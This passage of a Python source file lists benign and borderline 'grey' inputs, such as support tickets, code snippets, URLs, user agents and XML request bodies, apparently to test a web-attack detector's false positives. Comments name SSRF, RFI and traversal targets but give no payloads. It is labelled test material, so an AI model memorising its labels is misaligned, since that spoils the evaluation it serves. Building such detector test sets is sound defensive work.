    ("Union Square and Times Square are both on the N line, or so I'm told.", "prose (en)"),
    ("Das Skript (script) läuft, aber die Abfrage dauert; wo ist das Problem?", "prose (de)"),
    ("Le script d'installation s'exécute, puis le système redémarre.", "prose (fr) with script/système"),
    ("A ordem dos fatores não altera o produto -- ou altera?", "prose (pt)"),
    ("L'ordine è stato annullato; l'importo sarà rimborsato entro 5 giorni.", "prose (it)"),
]

B_REVIEWS = [
    "5/5 -- the table is sturdy & the drawers slide nicely. Would order again!",
    "Meh. 2 stars. It's \"waterproof\" until it rains; then it's a sponge.",
    "Great value for $29.99, but the 'select' button on the remote sticks.",
    "Works with my MacBook (M2) & my old ThinkPad; setup took <5 min.",
    "Returned it: the size chart said L = 42\" but it's more like 38\".",
    "Loved it!!! 😍 My kids (3 & 5) use it every day.",
    "The manual is in English/Deutsch/Français only -- no Español :(",
    "Cheap plastic; broke after 2 weeks. Customer service was helpful though.",
    "Stars: ★★★★☆ -- solid, but the app's 'sync' option drops the connection.",
    "Bought 2, gave 1 to my mum. She says it's \"the best thing since sliced bread\".",
    "Arrived in 3 days; the box was crushed but the item was fine. 4/5",
    "Don't buy the 128GB version -- the 256GB one is only $20 more.",
    "Perfect fit for a 13\" laptop; zip pulls feel premium.",
    "Order #A-1042 came with a missing screw (M4 x 10mm); support sent one for free.",
    "Sehr gut! Lieferung schnell, Qualität top. 5 Sterne.",
    "Très bon produit, mais l'emballage était abîmé.",
    "Buen producto; la batería dura ~10 h con uso normal.",
    "非常好用，已经推荐给朋友了。",
    "Execution of the design is flawless; the union of form & function.",
]

B_TICKETS = [
    ("Hi support, since yesterday's update I can't select a delivery slot -- the dropdown is empty. Order #58213.", "support ticket"),
    ("Login fails with 'Invalid credentials' even after a reset. Browser: Chrome 124 on Windows 11.", "support ticket"),
    ("Please delete my account (user id 48213) and all associated data per GDPR Art. 17.", "support ticket"),
    ("The export to CSV cuts off at 1,000 rows; we need ~25k. Is there a limit?", "support ticket"),
    ("Steps: 1) open Settings 2) click 'Billing' 3) page shows 500 error. Happens on Firefox & Safari.", "support ticket"),
    ("Our webhook endpoint returns 200 but your dashboard says 'failed' -- can you check delivery logs?", "support ticket"),
    ("We upgraded log4j to 2.17.1 after CVE-2021-44228; do we still need the JVM flag?", "prose: Log4j in a ticket"),
    ("After migrating from PHP 7.4 to PHP 8.2 our invoices show the wrong VAT rate.", "prose: PHP in a ticket"),
    ("The Java 17 upgrade broke our SAML login; the stack trace mentions javax.xml.bind.", "prose: Java in a ticket"),
    ("Is MongoDB Atlas or self-hosted Postgres better for ~10M rows? We mostly select by date.", "prose: databases in a ticket"),
    ("Can you whitelist our IP range 203.0.113.0/24 for the API?", "support ticket with CIDR"),
    ("When I paste text with an apostrophe (like it's) the form says 'invalid character'.", "support ticket about apostrophes"),
    ("Invoice INV-2024/0042 shows $1,299.00 but I was charged €1.199,00 -- which is right?", "support ticket with money"),
    ("My phone number changed to +44 7700 900123; please update it on file.", "support ticket with phone"),
    ("The 'Union' plan and the 'Select' plan look identical on the pricing page -- what's the difference?", "grey: plan names Union/Select"),
    ("Our firewall blocks requests to hooks.example.net; which IPs do your webhooks come from?", "support ticket"),
    ("We use Spring Boot 3.2 with ${server.port} placeholders in application.yml; is 8443 OK?", "grey: Spring placeholder in prose"),
    ("Our EC2 instances can't reach the metadata service at 169.254.169.254 since we enforced IMDSv2.", "grey: metadata address in a support ticket"),
    ("The build log says: java.lang.OutOfMemoryError: Java heap space at java.util.Arrays.copyOf(Arrays.java:3512)", "prose: Java stack trace line"),
    ("Error in PHP: Fatal error: Uncaught TypeError: count(): Argument #1 must be of type array in /srv/app/src/Cart.php:42", "prose: PHP error message"),
    ("It says 'Warning: include(): Failed opening header.php for inclusion' on the about page.", "grey: PHP include() warning quoted"),
    ("Mongo complains: 'unknown operator: $foo' when I save a document whose key starts with a dollar sign.", "grey: MongoDB operator error quoted"),
    ("Please set the redirect URI to https://app.example.com/auth/callback for our tenant.", "support ticket with URL"),
    ("Our office is at 10 Downing St. & the courier keeps going to no. 11.", "support ticket with address"),
]

B_CODE_MORE = [
    ("def slugify(s):\n    return re.sub(r'[^a-z0-9]+', '-', s.lower()).strip('-')", "code: python regex"),
    ("const total = items.reduce((acc, it) => acc + it.price * it.qty, 0);", "code: JS reduce"),
    ("if err != nil {\n\treturn fmt.Errorf(\"read config: %w\", err)\n}", "code: Go error wrap"),
    ("for _, u := range users {\n\tfmt.Println(u.Name)\n}", "code: Go loop"),
    ("^[\\w.+-]+@[\\w-]+\\.[\\w.]+$", "code: email regex"), ("^\\d{4}-\\d{2}-\\d{2}$", "code: date regex"),
    ("(?i)^(?:https?://)?(?:www\\.)?example\\.com(/.*)?$", "code: URL regex"),
    ("{\"name\": \"widget\", \"tags\": [\"a\", \"b\"], \"price\": 9.99}", "code: JSON in a string"),
    ("[{\"op\": \"replace\", \"path\": \"/title\", \"value\": \"New\"}]", "code: JSON Patch as text"),
    ("type User struct {\n\tID   int    `json:\"id\"`\n\tName string `json:\"name\"`\n}", "grey: Go struct tags in backticks"),
    ("const { data, error } = await supabase.from('orders').select('id, total')", "grey: query-builder .select() in JS"),
    ("df.groupby('region')['sales'].sum().sort_values(ascending=False)", "code: pandas"),
    ("class Cart:\n    def __init__(self):\n        self.items = []", "code: python class"),
    ("useEffect(() => { document.title = `${count} items`; }, [count]);", "grey: React effect with template literal"),
    ("fetch('/api/items?page=2').then(r => r.json()).then(console.log)", "code: fetch"),
    ("let re = /(\\d+)\\s*(kg|lb)/g;", "code: JS regex"), ("x := map[string]int{\"a\": 1, \"b\": 2}", "code: Go map"),
    ("println!(\"{:?}\", v.iter().map(|x| x * 2).collect::<Vec<_>>());", "code: rust iterator with |x|"),
    ("<template><div :class=\"{ active: isActive }\">{{ message }}</div></template>", "grey: Vue template with {{ message }}"),
    ("{% if user.is_authenticated %}Hello, {{ user.first_name }}!{% endif %}", "grey: Jinja template without expression calls"),
    ("process.env.API_URL ?? 'http://localhost:3000'", "grey: process.env and localhost default in JS"),
    ("SELECT_FIELDS = ['id', 'name']  # fields to show", "code: constant named SELECT_FIELDS"),
    ("assert len(result) == 3, 'expected three rows'", "code: python assert statement"),
    ("System.out.println(\"Hello, \" + name);", "code: Java println"),
    ("logger.info(\"User {} logged in from {}\", userId, ip);", "code: SLF4J placeholders"),
    ("@GetMapping(\"/users/{id}\") public User get(@PathVariable Long id)", "code: Spring annotation"),
    ("echo \"Hello\";", "grey: echo statement (PHP/shell) without metacharacters"),
    ("$price = 5.99; // PHP-ish variable in a snippet", "grey: $-variable in a snippet"),
    ("val (a, b) = pair", "code: kotlin destructuring"), ("cargo add serde --features derive", "code: cargo command"),
    ("git log --since='2 weeks ago' --author='O\\'Brien'", "grey: git command with escaped apostrophe"),
    ("kubectl get pods -n prod -o wide", "grey: kubectl command"),
    ("npm i lodash@^4.17.21", "code: npm install with caret range"),
]

B_SEMVER = [
    (">=1.2 <2.0", "semver range"), ("^1.2.3", "semver caret"), ("~> 2.1", "gem pessimistic constraint"), ("~1.4.0", "semver tilde"),
    ("1.x || 2.x", "grey: semver OR range with ||"), (">=1.0.0 <2.0.0 || >=3.0.0", "grey: semver OR range with ||"),
    ("<=3.1.4-rc.1", "semver pre-release"), ("!=1.5.0", "version exclusion"), ("==2.31.0", "pip pin"), (">=3.8,<3.13", "python_requires"),
    ("[1.0,2.0)", "Maven version range"), ("v1.2.3+build.42", "semver build metadata"), ("*", "any version"), ("latest", "dist-tag"),
]

B_MONEY_DATES_MISC = [
    ("$5.99", "price"), ("It's $5.99 or $6.49 with tax.", "prose with $ amounts"), ("Total: $1,234.56 (incl. $102.30 VAT)", "prices"),
    ("USD 1,000.00 / EUR 920,00", "prices"), ("R$ 49,90", "BRL price"), ("₹1,499", "INR price"), ("CHF 12.–", "CHF price"),
    ("$gt and $lt are Mongo operators, but here they're just words", "grey: Mongo operator names in prose"),
    ("Save $$$ with the annual plan", "prose with $$$"), ("Tue, 15 Jan 2024 09:30:00 GMT", "HTTP date"), ("2024-01-15 09:30:00.123456", "SQL-ish timestamp"),
    ("1705311000", "unix timestamp"), ("01/15/24 9:30 AM", "US date"), ("15.01.2024, 09:30 Uhr", "German date"), ("2024年1月15日", "Japanese date"),
    ("T+2 business days", "settlement"), ("Q1/2024", "quarter"), ("09:30-17:00 (Mon-Fri)", "opening hours"), ("UTC+05:30", "timezone offset"),
    ("+33 1 23 45 67 89", "phone"), ("(555) 010-9999 ext. 42", "phone with ext"), ("+91-98765-43210", "phone"), ("0800 123 4567", "phone"),
    ("jane.o'neil@example.com", "grey: apostrophe in email local part"), ("\"john doe\"@example.org", "grey: quoted email local part"),
    ("support+tickets@example.co.jp", "email"), ("ana.maría@correo.example", "email with accent"),
    ("IBAN DE89 3704 0044 0532 0130 00", "IBAN"), ("4111 1111 1111 1111", "test card number"), ("SKU: TBL-OAK-6/SEAT", "SKU with slash"),
    ("Order #A-1042 / Invoice #INV-2024-0042", "ids with #"), ("50 % Rabatt", "percent with space"), ("3 x 4 = 12", "arithmetic"),
    ("report.final.v2.pdf", "file name with several dots"), ("passwd-reset.html", "file name containing 'passwd'"),
    ("shadow-dom-notes.md", "file name containing 'shadow'"), ("system32-drivers-inventory.xlsx", "file name containing 'system32'"),
    ("docs/api/v2/users.md", "relative path"),
    ("See [the setup guide](../docs/SETUP.md) before you start.", "grey: parent-relative markdown link (one ../, no system file)"),
    ("assets/fonts/Inter-Regular.woff2", "relative path"), ("C:\\Users\\Public\\Documents\\report.docx", "grey: Windows user path (not a system file)"),
    ("photos/2024/07/IMG_0042.HEIC", "relative path"), ("backup (copy) [2].zip", "file name with brackets"),
]


BENIGN_GROUPS = [
    ("name", B_NAMES), ("prose with SQL words", B_PROSE_SQL), ("prose with HTML/JS words", B_PROSE_HTMLISH),
    ("prose with shell metacharacters", B_PROSE_SHELLISH), ("paths and file names", B_PATHISH),
    ("search query", B_SEARCH), ("code snippet", B_CODE), ("markdown", B_MARKDOWN),
    ("HTML-escaped text", B_ESCAPED), ("non-Latin / emoji", B_UNICODE), ("multi-line text", B_MULTILINE),
    ("name (many languages)", B_NAMES_WORLD), ("postal address", B_ADDRESSES), ("prose (many languages)", B_PROSE_WORLD),
    ("product review", B_REVIEWS), ("support ticket", B_TICKETS), ("code snippet", B_CODE_MORE),
    ("version range", B_SEMVER), ("money, dates, contacts, file names", B_MONEY_DATES_MISC),
]

B_USER_AGENTS = BROWSER_UAS + TOOL_UAS

# URLs to ordinary public sites in URL-taking fields (url=, callback=, redirect=, avatar=,
# webhook=): benign; internal/metadata targets there would be ssrf.
B_URL_VALUES = [
    "https://www.example.com/", "https://en.wikipedia.org/wiki/Special:Search?search=union+station&go=Go",
    "https://github.com/rust-lang/rust/issues/12345", "https://docs.python.org/3/library/urllib.parse.html#url-parsing",
    "https://cdn.example.net/avatars/u/48213.png?size=128&v=3", "https://images.unsplash.com/photo-1500000000000-abc?w=800&q=80",
    "https://hooks.slack.com/services/T0000000/B0000000/XXXXXXXXXXXXXXXXXXXXXXXX", "https://discord.com/api/webhooks/123456789012345678/abcDEF-token",
    "https://api.example.org/v1/webhooks/receive?source=stripe", "https://app.example.com/oauth/callback?state=a1b2c3",
    "https://shop.example.com/checkout/complete?order=A-1042&utm_source=email", "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://maps.google.com/?q=221B+Baker+Street,+London", "https://example.com/files/Quarterly%20Report%20(final).pdf",
    "https://feeds.example.com/podcast.rss", "https://blog.example.com/feed.atom", "https://calendar.example.com/ical/team.ics",
    "https://s3.amazonaws.com/public-bucket/exports/2024-01.csv", "https://storage.googleapis.com/my-public-assets/logo.svg",
    "https://example.blob.core.windows.net/media/intro.mp4", "https://raw.githubusercontent.com/octocat/Hello-World/master/README",
    "https://gist.githubusercontent.com/someone/abc123/raw/config.json", "https://www.example.co.uk/path/with/many/segments/",
    "https://xn--mnchen-3ya.example/stadtplan", "https://例え.テスト/パス", "https://example.com:8443/api/health",
    "https://user@example.com/profile", "https://example.com/search?q=select%20a%20plan&sort=price&order=asc",
    "https://example.com/#/dashboard?tab=orders", "https://example.com/redirect?next=%2Faccount%2Fsettings",
    "https://login.example.com/oauth2/authorize?client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid",
    "https://www.linkedin.com/in/siobhan-obrien-123456/", "https://twitter.com/example/status/1750000000000000000",
    "https://open.spotify.com/track/4uLU6hMCjMI75M1A2tKUQC?si=abc", "https://docs.google.com/document/d/1AbC-dEf_GhI/edit#heading=h.x",
    "https://example.com/img/avatar.php?user=42&s=80", "https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?d=identicon",
    "https://www.php.net/manual/en/function.include.php", "https://logging.apache.org/log4j/2.x/security.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/", "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://example.com/api/v1/items?filter[price][gte]=10&filter[price][lte]=100",
    "http://example.com/legacy/page.html", "ftp://ftp.example.org/pub/mirrors/README",
    ("http://localhost:8080/callback", "grey: loopback redirect_uri of a native OAuth app (RFC 8252)"),
    ("http://127.0.0.1:53682/", "grey: loopback redirect_uri used by CLI OAuth flows (RFC 8252)"),
]
B_URL_PARAMS = ["url", "callback", "redirect", "redirect_uri", "return_to", "next", "avatar", "avatar_url", "image_url",
                "webhook_url", "link", "feed", "source", "homepage", "website", "continue"]

# Values of include-like parameters (page=, file=, include=, template=, lang=, path=, view=)
# that real apps send: benign; a foreign URL or a system path there would be rfi/traversal.
B_INCLUDE_VALUES = [
    ("page", "about"), ("page", "2"), ("page", "contact-us"), ("page", "faq#shipping"), ("file", "report.final.v2.pdf"),
    ("file", "invoices/2024/INV-0042.pdf"), ("file", "passwd-reset.html"), ("file", "IMG_0042.jpg"), ("include", "author,comments"),
    ("include", "comments.author,tags"), ("include", "line_items.product"), ("template", "invoice"), ("template", "welcome_email_v2"),
    ("template", "emails/order-shipped.html"), ("lang", "en"), ("lang", "pt-BR"), ("lang", "zh-Hant"), ("lang", "de_DE.UTF-8"),
    ("path", "docs/getting-started"), ("path", "/"), ("path", "/products/tables"), ("path", "folder/sub folder/file.txt"),
    ("view", "grid"), ("view", "calendar"), ("layout", "two-column"), ("theme", "dark"), ("module", "billing"), ("doc", "terms-of-service"),
    ("tpl", "default"), ("load", "more"), ("content", "summary"), ("inc", "1"), ("dir", "desc"), ("folder", "Inbox"),
    ("file", "https://docs.example.com/manuals/setup-guide.pdf"), ("path", "s3://public-bucket/exports/2024-01.csv"),
]

B_USER_AGENTS_MORE = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/126.0 Mobile/15E148 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 YaBrowser/24.1.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Vivaldi/6.7",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.38.125 Chrome/124.0.6367.243 Electron/30.1.2 Safari/537.36 AtomShell/30.1.2 Sonic Slack_SSB/4.38.125",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "WhatsApp/2.24.8.85 A", "TelegramBot (like TwitterBot)", "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "Datadog Agent/7.52.0", "Amazon CloudFront", "GoogleHC/1.0",
    "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64 api/s3#1.53.1",
    "Boto3/1.34.84 md/Botocore#1.34.84 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.84",
    "aws-cli/2.15.40 Python/3.11.8 Linux/6.5.0-1018-aws exe/x86_64.ubuntu.22 prompt/off command/s3.cp",
    "google-api-go-client/0.5", "Stripe/v1 RubyBindings/10.15.0", "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "GitHub-Hookshot/8f3c2a1", "octokit-rest.js/20.1.1 octokit-core.js/5.2.0 Node.js/20", "Java-http-client/17.0.10",
    "Java/1.8.0_402", "Apache-HttpClient/5.3.1 (Java/21.0.2)", "GuzzleHttp/7", "WordPress/6.5.3; https://blog.example.com",
    "PHP/8.2.18", "Ruby", "Faraday v2.9.0", "Python/3.11 aiohttp/3.9.5", "python-httpx/0.27.0", "HTTPie/3.2.2", "insomnia/2023.5.8",
    "Terraform/1.8.2 (+https://www.terraform.io) terraform-provider-aws/5.47.0", "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
    "Helm/3.14.4", "docker/26.0.0 go/go1.21.8 git-commit/8b79278 kernel/6.5.0 os/linux arch/amd64 UpstreamClient(Docker-Client/26.0.0 \\(linux\\))",
    "git/2.44.0", "npm/10.5.0 node/v20.12.2 linux x64 workspaces/false", "yarn/1.22.22 npm/? node/v20.12.2 darwin arm64",
    'pip/24.0 {"ci":null,"cpu":"x86_64","distro":{"name":"Ubuntu","version":"22.04"},"implementation":{"name":"CPython","version":"3.11.9"},"installer":{"name":"pip","version":"24.0"},"python":"3.11.9","system":{"name":"Linux","release":"6.5.0"}}',
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)", "Podcasts/1650.20 CFNetwork/1494.0.7 Darwin/23.4.0",
    "Spotify/8.9.38 Android/34 (Pixel 8)", "Zoom 5.17.11 (Mac)", "Mozilla/5.0 (Linux; Android 14; SM-S928B; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/460.0.0.38.108;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 330.0.0.40.92",
    "Roku/DVP-13.0 (13.0.0.4177)", "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/5.0 TV Safari/537.36",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)", "okhttp/3.14.9", "Wget/1.20.3 (linux-gnu)",
    "curl/7.68.0", "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
]

B_REFERERS_MORE = [
    "https://www.google.com/search?q=o%27connor+pub+dublin&hl=en", "https://www.google.de/search?q=tisch+%26+st%C3%BChle",
    "https://www.baidu.com/s?wd=%E8%AE%A2%E5%8D%95", "https://search.yahoo.co.jp/search?p=%E6%9D%B1%E4%BA%AC",
    "https://yandex.ru/search/?text=%D0%B7%D0%B0%D0%BA%D0%B0%D0%B7&lr=213", "https://www.bing.com/search?q=select+vs+union+sql",
    "https://shop.example.com/search?q=drop+leaf+table&page=3", "https://app.example.com/settings/webhooks?created=1",
    "https://github.com/search?q=log4j+2.17&type=issues", "https://stackoverflow.com/questions/12345/how-to-use-include-in-php",
    "https://example.com/docs?page=about&lang=fr", "https://example.com/viewer.html?file=https%3A%2F%2Fdocs.example.com%2Fguide.pdf",
    "https://example.com/index.php?page=contact", "https://accounts.example.com/login?continue=https%3A%2F%2Fmail.example.com%2F",
    "https://www.amazon.com/s?k=c%2B%2B+book&ref=nb_sb_noss", "https://duckduckgo.com/?q=%22rock+%26+roll%22&t=h_",
    "http://localhost:5173/", "http://127.0.0.1:8000/admin/", "https://staging.example.internal/checkout?step=2",
    "https://example.com/search?q=%3Cb%3Ebold%3C%2Fb%3E+tag+meaning",
]

# Whole benign XML request bodies: (content type, body, note, extra headers).
_SOAP_ENV = ('<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" '
             'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema">\n'
             '  <soap:Body>\n%s\n  </soap:Body>\n</soap:Envelope>\n')
B_XML_DOCS = [
    ("text/xml; charset=utf-8", _SOAP_ENV % '    <GetCustomer xmlns="http://tempuri.org/"><customerId>48213</customerId></GetCustomer>',
     "SOAP 1.1 request", [("SOAPAction", '"http://tempuri.org/GetCustomer"')]),
    ("text/xml; charset=utf-8", _SOAP_ENV % '    <SearchOrders xmlns="http://tempuri.org/"><query>union station &amp; 5th</query><orderBy>created desc</orderBy><top>20</top></SearchOrders>',
     "SOAP 1.1 request with SQL-ish words", [("SOAPAction", '"http://tempuri.org/SearchOrders"')]),
    ("text/xml; charset=utf-8", _SOAP_ENV % "    <UpdateProfile xmlns=\"urn:example:crm\"><name>Siobhán O'Brien</name><note>It's fine -- call after 5 or before 9.</note></UpdateProfile>",
     "SOAP 1.1 request with apostrophes", [("SOAPAction", '"urn:example:crm/UpdateProfile"')]),
    ("text/xml", _SOAP_ENV % '    <m:GetStockPrice xmlns:m="http://www.example.org/stock"><m:StockName>T&amp;T</m:StockName></m:GetStockPrice>',
     "SOAP 1.1 request with &amp;", [("SOAPAction", '""')]),
    ('application/soap+xml; charset=utf-8; action="urn:example:Ping"',
     '<?xml version="1.0" encoding="utf-8"?>\n<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope">\n'
     '  <env:Header><t:Trace xmlns:t="urn:example:trace">4bf92f3577b34da6</t:Trace></env:Header>\n'
     '  <env:Body><p:Ping xmlns:p="urn:example:api"><p:host>api.example.com</p:host><p:count>3</p:count></p:Ping></env:Body>\n</env:Envelope>\n',
     "SOAP 1.2 request", []),
    ('application/soap+xml; charset=utf-8',
     '<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope" xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">'
     '<env:Header><wsse:Security><wsse:UsernameToken><wsse:Username>svc-billing</wsse:Username>'
     '<wsse:Password Type="PasswordText">p@ss&amp;w0rd&lt;2024&gt;</wsse:Password></wsse:UsernameToken></wsse:Security></env:Header>'
     '<env:Body><b:GetInvoice xmlns:b="urn:example:billing"><b:id>INV-2024/0042</b:id></b:GetInvoice></env:Body></env:Envelope>',
     "SOAP 1.2 with WS-Security", []),
    ("application/rss+xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">\n<channel>\n'
     '  <title>Example Blog</title><link>https://blog.example.com/</link><description>Notes on Rust &amp; the web</description>\n'
     '  <item><title>Why we dropped the ORM</title><link>https://blog.example.com/dropped-orm</link>\n'
     '    <description>We&apos;ll select the right tool for each job.</description>\n'
     '    <content:encoded><![CDATA[<p>We moved to <b>plain SQL files</b> and it&#8217;s been great.</p>]]></content:encoded>\n'
     '    <pubDate>Mon, 15 Jan 2024 09:30:00 GMT</pubDate></item>\n</channel>\n</rss>\n', "grey: RSS with HTML in CDATA", []),
    ("application/atom+xml",
     '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n  <title>Release notes</title>\n'
     '  <link href="https://example.com/releases.atom" rel="self"/>\n  <updated>2024-06-01T12:00:00Z</updated>\n'
     '  <entry><title>v2.3.1: fixes for names like O&apos;Brien</title><id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>'
     '<updated>2024-06-01T12:00:00Z</updated><summary type="html">&lt;p&gt;Search for &quot;c++&quot; works again.&lt;/p&gt;</summary></entry>\n</feed>\n',
     "grey: Atom feed with escaped HTML summary", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<configuration>\n  <appSettings>\n    <add key="Environment" value="Production"/>\n'
     '    <add key="SupportEmail" value="support@example.com"/>\n    <add key="Greeting" value="Welcome to Ben &amp; Jerry&apos;s"/>\n'
     '  </appSettings>\n  <connectionStrings>\n    <add name="Main" connectionString="Server=db.internal;Database=shop;Integrated Security=true"/>\n'
     '  </connectionStrings>\n</configuration>\n', "config-ish XML (app settings)", []),
    ("application/xml",
     '<?xml version="1.0"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">\n  <modelVersion>4.0.0</modelVersion>\n'
     '  <groupId>com.example</groupId><artifactId>shop</artifactId><version>1.4.2</version>\n  <dependencies>\n'
     '    <dependency><groupId>org.apache.logging.log4j</groupId><artifactId>log4j-core</artifactId><version>2.17.1</version></dependency>\n'
     '  </dependencies>\n</project>\n', "Maven POM mentioning log4j", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<order xmlns="urn:example:orders" xmlns:addr="urn:example:address">\n'
     '  <id>A-1042</id><customer>Mary-Kate O\'Connor</customer>\n'
     '  <addr:shipTo><addr:line>Apt. 4B, 350 5th Ave</addr:line><addr:city>New York</addr:city><addr:zip>10118</addr:zip></addr:shipTo>\n'
     '  <items><item sku="TBL-OAK-6" qty="1" price="1299.00"/><item sku="CHR-OAK" qty="6" price="149.50"/></items>\n'
     '  <note>Leave at the door; ring twice &amp; wait.</note>\n</order>\n', "XML with namespaces and apostrophes", []),
    ("text/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<methodCall><methodName>wp.getPosts</methodName><params>'
     '<param><value><int>1</int></value></param><param><value><string>editor</string></value></param>'
     '<param><value><string>correct horse battery staple</string></value></param></params></methodCall>\n', "XML-RPC call", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n'
     '<plist version="1.0"><dict><key>CFBundleName</key><string>Example</string><key>CFBundleVersion</key><string>42</string></dict></plist>\n',
     "grey: Apple plist with a public external DTD reference", []),
    ("application/xhtml+xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
     '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Order confirmation</title></head><body><p>Thanks &amp; see you soon.</p></body></html>\n',
     "grey: XHTML with the standard public DTD", []),
    ("application/xml",
     '<?xml version="1.0"?>\n<!DOCTYPE note [\n  <!ENTITY company "Smith &#38;#38; Sons Ltd.">\n]>\n<note><to>Anna</to><from>&company;</from><body>Invoice attached.</body></note>\n',
     "grey: internal DTD entity used as a text macro", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet type="text/xsl" href="/static/invoice.xsl"?>\n'
     '<invoice number="INV-2024-0042" currency="EUR"><line desc="Design &amp; build" amount="1200.00"/><total>1428.00</total></invoice>\n',
     "grey: xml-stylesheet processing instruction (<? ... ?>)", []),
    ("application/xml",
     '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><title>Logo</title>'
     '<path d="M12 2L2 7l10 5 10-5-10-5z" fill="#ff8800"/><text x="2" y="22" font-family="Inter">ACME &amp; Co</text></svg>',
     "SVG icon without scripts", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
     '  <url><loc>https://example.com/products?category=tables&amp;sort=price</loc><lastmod>2024-01-15</lastmod></url>\n'
     '  <url><loc>https://example.com/blog/o-brien-interview</loc><changefreq>monthly</changefreq></url>\n</urlset>\n', "sitemap", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"><CstmrCdtTrfInitn>'
     '<GrpHdr><MsgId>MSG-2024-0001</MsgId><CreDtTm>2024-01-15T09:30:00</CreDtTm><NbOfTxs>1</NbOfTxs></GrpHdr>'
